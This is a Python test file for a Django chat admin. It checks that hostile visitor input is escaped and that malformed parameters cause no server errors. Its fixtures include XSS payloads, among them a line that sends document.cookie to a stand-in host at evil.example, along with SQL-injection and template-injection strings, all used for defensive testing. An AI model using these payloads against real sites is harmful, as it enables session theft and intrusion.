"""Visitors and conversations in the back office: hostile text stays text, and lists stay quick."""

from typing import Any
from urllib.parse import quote

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from chat.admin.conversations import page as page_of
from chat.models import Conversation, Visitor
from tests.chat import back_office as make
from tests.chat.back_office import Cast

# CONTENT-01 .. CONTENT-11 of the catalogue of bad input.
HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "[x](javascript:alert(1))",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "\"'><img src=x onerror=fetch('//evil.example/'+document.cookie)>",
    "{{ 7*7 }}{% debug %}",
]
MARKUP = ("<script>alert", "<img src=x", "<svg/onload", "<math>", 'href="jav', "<b>bold")


@pytest.fixture
def cast(db: None) -> Cast:
    return make.cast()


@pytest.fixture
def hostile(cast: Cast) -> Conversation:
    """A visitor who attacks by every field, and a conversation of such texts."""
    cast.shop.name = cast.owen.display_name = "<b>bold</b>"
    cast.shop.save()
    cast.owen.save()
    visitor = make.visitor(
        cast.shop,
        name=HOSTILE[6],
        email=HOSTILE[1],
        phone=HOSTILE[4],
        referrer="javascript:alert(document.domain)",
        user_agent=HOSTILE[6],
        attributes={HOSTILE[0]: HOSTILE[1]},
        trail=[{"url": "javascript:alert(1)", "title": HOSTILE[4], "at": ""}],
    )
    return make.conversation(visitor, *HOSTILE)


def assert_harmless(answer: Any, *texts: str) -> None:
    body = answer.content.decode()
    assert answer.status_code == 200
    assert not [markup for markup in MARKUP if markup in body]
    assert 'href="javascript:' not in body
    words = make.text_of(answer)
    assert not [text for text in texts if text not in words]


def test_hostile_text_shows_as_text_in_lists(cast: Cast, hostile: Conversation) -> None:
    rosa = make.browser(cast.rosa)
    assert_harmless(rosa.get("/admin/chat/visitor/"), HOSTILE[6])
    assert_harmless(rosa.get("/admin/chat/conversation/"), HOSTILE[6], HOSTILE[7])
    assert_harmless(rosa.get("/admin/chat/site/"), "<b>bold</b>")
    assert_harmless(rosa.get("/admin/chat/membership/"), "<b>bold</b>")
    assert_harmless(rosa.get("/admin/auditlog/logentry/"), "<b>bold</b>")
    assert_harmless(rosa.get("/admin/"), "<b>bold</b>")


def test_hostile_text_shows_as_text_on_pages(cast: Cast, hostile: Conversation) -> None:
    rosa = make.browser(cast.rosa)
    thread = f"/admin/chat/conversation/{hostile.pk}/change/"
    assert_harmless(rosa.get(thread), *HOSTILE)
    person = f"/admin/chat/visitor/{hostile.visitor_id}/change/"
    asked = "javascript:alert(document.domain)"
    assert_harmless(rosa.get(person), HOSTILE[0], HOSTILE[1], HOSTILE[4], HOSTILE[6], asked)
    assert_harmless(rosa.get(f"/admin/chat/visitor/{hostile.visitor_id}/ban/"))
    assert_harmless(rosa.get(f"/admin/chat/site/{cast.shop.pk}/change/"), "<b>bold</b>")


@pytest.mark.parametrize("term", [*HOSTILE, "'; DROP TABLE x; --", "%", "a" * 5000])
def test_hostile_searches_find_nothing_and_break_nothing(cast: Cast, term: str) -> None:
    for kind in ("visitor", "conversation", "membership", "site"):
        answer = make.browser(cast.rosa).get(f"/admin/chat/{kind}/", {"q": term})
        assert answer.status_code == 200
        assert_harmless(answer)


@pytest.mark.parametrize("value", ["x", "-1", "9" * 40, "1 OR 1=1", "²"])
def test_a_forged_filter_finds_nothing(cast: Cast, hostile: Conversation, value: str) -> None:
    for name in ("site", "agent"):
        answer = make.browser(cast.rosa).get("/admin/chat/conversation/", {name: value})
        assert answer.status_code == 200
        assert hostile.public_id not in make.text_of(answer)


STRANGE = ["x", "\x00", "-1", "9" * 30, "1.5", "a" * 3000, "²", "', 1=1 --", "_0A", "%00"]
PARAMETERS = {
    "site": ["is_active__exact", "o", "p", "all", "_popup", "_to_field", "e"],
    "membership": ["role__exact", "site"],
    "visitor": ["is_banned__exact", "site", "p"],
    "conversation": ["owner__exact", "agent", "site", "visitor__name__contains", "last_body"],
    "apitoken": ["scope__exact", "site", "digest__startswith"],
    "team": ["site"],
}


@pytest.mark.parametrize("kind", PARAMETERS)
@pytest.mark.parametrize("value", STRANGE)
def test_strange_addresses_break_nothing(cast: Cast, kind: str, value: str) -> None:
    rosa = make.browser(cast.rosa)
    rosa.raise_request_exception = False
    for name in PARAMETERS[kind]:
        assert rosa.get(f"/admin/chat/{kind}/", {name: value}).status_code < 500, name
    path = f"/admin/chat/{kind}/{quote(value, safe='')}"
    for what in ("change", "delete", "history", "ban", "new-secret", "revoke", "close"):
        assert rosa.get(f"{path}/{what}/").status_code < 500, what
    subject = {"subject": value, "site": value, "action__exact": value}
    for name, wanted in subject.items():
        answer = rosa.get("/admin/auditlog/logentry/", {name: wanted})
        assert answer.status_code < 500, name


def test_a_conversation_is_found_by_its_id_and_by_its_visitor(cast: Cast) -> None:
    visitor = make.visitor(cast.shop, name="Lena Fischer", email="lena@mail.example")
    wanted = make.conversation(visitor, "Hello")
    other = make.conversation(make.visitor(cast.shop, name="Tom"), "Hello")
    mia = make.browser(cast.mia)
    for term in (wanted.public_id, visitor.public_id, "lena f", "LENA@"):
        words = make.text_of(mia.get("/admin/chat/conversation/", {"q": term}))
        assert wanted.public_id in words
        assert other.public_id not in words


def test_a_strangers_visitors_do_not_crowd_out_own_ones(cast: Cast) -> None:
    make.conversation(make.visitor(cast.other, name="Lena of elsewhere"), "Hello")
    words = make.text_of(make.browser(cast.mia).get("/admin/chat/conversation/", {"q": "Lena"}))
    assert "elsewhere" not in words


def test_long_conversations_are_read_page_by_page(cast: Cast) -> None:
    thread = make.conversation(make.visitor(cast.shop), *(f"line {n}." for n in range(1, 121)))
    mia, path = make.browser(cast.mia), f"/admin/chat/conversation/{thread.pk}/change/"
    newest = mia.get(path)
    assert "line 120." in make.text_of(newest)
    assert "line 70." not in make.text_of(newest)
    assert newest.context["older"] == 71
    assert "line 70." in make.text_of(mia.get(path, {"before": 71}))
    first = mia.get(path, {"before": 21})
    assert first.context["older"] is None
    assert "line 1." in make.text_of(first)
    assert mia.get(path, {"before": "x' OR 1=1"}).context["older"] == 71


def test_notes_events_and_changes_are_marked(cast: Cast) -> None:
    thread = make.conversation(make.visitor(cast.shop), "Hello")
    agent = {"id": f"ag_{cast.ana.pk}", "name": "Ana"}
    make.message(thread, 2, "assigned", sender="s:", kind="event", data={"agent": agent})
    make.message(thread, 3, "Sounds upset", sender=f"a:{cast.ana.pk}", internal=True)
    make.message(thread, 4, "Hello!", kind="edit", reply_to=1)
    make.message(thread, 5, "", kind="rating", data={"score": 4})
    make.message(thread, 6, "unheard_of", sender="s:", kind="event")
    path = f"/admin/chat/conversation/{thread.pk}/change/"
    words = make.text_of(make.browser(cast.mia).get(path))
    for text in ("assigned to Ana", "Internal note", "Message 1 was changed to", "Rating: 4"):
        assert text in words
    assert "unheard_of" in words


def test_a_page_of_messages_reads_one_partition(cast: Cast) -> None:
    thread = make.conversation(make.visitor(cast.shop), "one", "two")
    with CaptureQueriesContext(
        connection,
    ) as queries:
        page_of(thread, "2")
    [sql] = [query["sql"] for query in queries if 'FROM "message"' in query["sql"]]
    with connection.cursor() as cursor:
        cursor.execute(f"EXPLAIN {sql}")
        plan = "\n".join(line for (line,) in cursor.fetchall())
    assert f"message_{thread.shard}_" in plan or f"message_{thread.shard} " in plan
    read = {shard for shard in range(32) if f"message_{shard} " in f"{plan} "}
    assert read <= {thread.shard}


@pytest.mark.parametrize("kind", ["conversation", "visitor"])
def test_long_lists_are_neither_counted_nor_read_row_by_row(cast: Cast, kind: str) -> None:
    for _ in range(5):
        make.conversation(make.visitor(cast.shop), "Hello", agent=cast.ana)
    mia = make.browser(cast.mia)
    with CaptureQueriesContext(connection) as queries:
        mia.get(f"/admin/chat/{kind}/")
    texts = [query["sql"] for query in queries]
    assert not [sql for sql in texts if "COUNT(" in sql and f"chat_{kind}" in sql]
    assert len([sql for sql in texts if f'FROM "chat_{kind}"' in sql]) == 1
    assert not [sql for sql in texts if 'FROM "message"' in sql]


def test_a_ban_is_made_and_lifted_by_its_buttons(cast: Cast) -> None:
    visitor = make.visitor(cast.shop, name="Troll")
    mia, path = make.browser(cast.mia), f"/admin/chat/visitor/{visitor.pk}"
    assert "neutral text" in make.text_of(mia.get(f"{path}/ban/"))
    assert not Visitor.objects.get(pk=visitor.pk).is_banned
    mia.post(f"{path}/ban/")
    assert Visitor.objects.get(pk=visitor.pk).is_banned
    mia.post(f"{path}/unban/")
    assert not Visitor.objects.get(pk=visitor.pk).is_banned
